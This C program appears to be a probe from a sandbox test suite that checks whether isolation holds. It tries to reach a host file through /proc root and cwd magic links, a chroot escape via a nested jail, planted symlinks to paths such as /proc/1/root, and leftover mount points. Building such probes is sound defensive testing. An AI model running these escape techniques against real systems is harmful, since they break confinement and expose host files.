// Looks for a file of the host that the sandbox doesn't hold: through /proc's magic links, by climbing out of the root
// and of every directory it has open, through symbolic links planted in a directory it can write.
//   attack_old_root FILE SECRET WRITABLE-DIRECTORY
#include <dirent.h>
#include <sys/stat.h>

#include "attack.h"

static const char *secret;

static bool try_path(const char *name, const char *path) {
  if (!file_holds(path, secret, 4096)) return false;
  reached(name, "%s", path);
  return true;
}

static bool through_proc(const char *file) {
  static const char *links[] = {"root", "cwd"};
  bool found = false;
  DIR *processes = opendir("/proc");
  if (!processes) return false;
  for (struct dirent *process; (process = readdir(processes));) {
    if (strtol(process->d_name, NULL, 10) <= 0 && strcmp(process->d_name, "self") && strcmp(process->d_name, "thread-self")) continue;
    for (size_t i = 0; i < 2; ++i) {
      char path[8192];
      // From a process of the host its root is the host's, and from its working directory ".." leads there.
      snprintf(path, sizeof path, "/proc/%s/%s/../../../../../../../../../../..%s", process->d_name, links[i], file);
      found |= try_path("proc", path);
    }
  }
  closedir(processes);
  return found;
}

static bool by_climbing(const char *file) {
  bool found = false;
  const int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
  char climb[4096];
  snprintf(climb, sizeof climb, "../../../../../../../../../../..%s", file);
  const int fd = openat(root, climb, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    found |= try_path("climbing", path);
    close(fd);
  }
  // The classic way out of a chroot: a root below the working directory.
  if (mkdir("/tmp/jail", 0700) == 0 || errno == EEXIST) {
    if (chroot("/tmp/jail") == 0) {
      for (int i = 0; i < 64; ++i)
        if (chdir("..") != 0) break;
      if (chroot(".") == 0) found |= try_path("chroot", file);
    }
    rmdir("/tmp/jail");
  }
  return found;
}

static bool by_planted_links(const char *file, const char *writable) {
  static const char *targets[] = {"%s", "/proc/1/root%s", "/proc/self/root%s", "../../../../../../../../../..%s", "/oldroot%s",
                                  "/.old%s", "/old%s", "/mnt%s", "/proc/self/cwd/../../../../../../..%s"};
  bool found = false;
  char link[4096];
  snprintf(link, sizeof link, "%s/planted", writable);
  for (size_t i = 0; i < sizeof targets / sizeof *targets; ++i) {
    char target[4096];
    snprintf(target, sizeof target, targets[i], file);
    unlink(link);
    if (symlink(target, link) != 0) broken("cannot plant a link");
    found |= try_path("planted", link);
  }
  unlink(link);
  return found;
}

// A mount that was left over somewhere in the mount table shows the host's file below it.
static bool by_mount_points(const char *file) {
  bool found = false;
  FILE *table = fopen("/proc/self/mountinfo", "re");
  if (!table) return false;
  char line[8192], point[4096];
  while (fgets(line, sizeof line, table))
    if (sscanf(line, "%*s %*s %*s %*s %4095s", point) == 1) {
      char path[8300];
      snprintf(path, sizeof path, "%s%s", point, file);
      found |= try_path("mounts", path);
    }
  fclose(table);
  return found;
}

int main(int argc, char **argv) {
  if (argc < 4) broken("usage");
  secret = argv[2];
  bool found = try_path("direct", argv[1]);
  found |= through_proc(argv[1]);
  found |= by_planted_links(argv[1], argv[3]);
  found |= by_mount_points(argv[1]);
  found |= by_climbing(argv[1]);
  if (!found) errno = ENOENT, refused("all");
  return 0;
}
